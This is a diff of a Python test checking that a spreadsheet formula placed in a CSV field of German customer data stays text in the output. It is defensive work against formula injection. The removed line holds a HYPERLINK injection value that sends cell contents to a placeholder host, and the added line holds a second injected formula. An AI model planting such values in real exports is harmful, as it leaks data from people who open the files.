@@ -143,7 +143,7 @@ def test_a_value_written_as_a_formula_stays_text_in_the_rueckmeldung(demo, demo_
     name = "jc_05112_202301_kunden.csv"
     lines = (demo / name).read_text("utf-8-sig").splitlines()
     fields = lines[1].split(";")
-    fields[4] = '=HYPERLINK("http://example.invalid/"&A1)'  # geschlecht
+    fields[4] = "=HYPERLINK(A1&A2)"  # geschlecht (with a '"' in it the line is quarantined whole)
     lines[1] = ";".join(fields)
     (inbox / name).write_text("\ufeff" + "\n".join(lines) + "\n", "utf-8")
     key = PseudonymKey(b"test-only-pseudonym-key, never a real secret", "test")
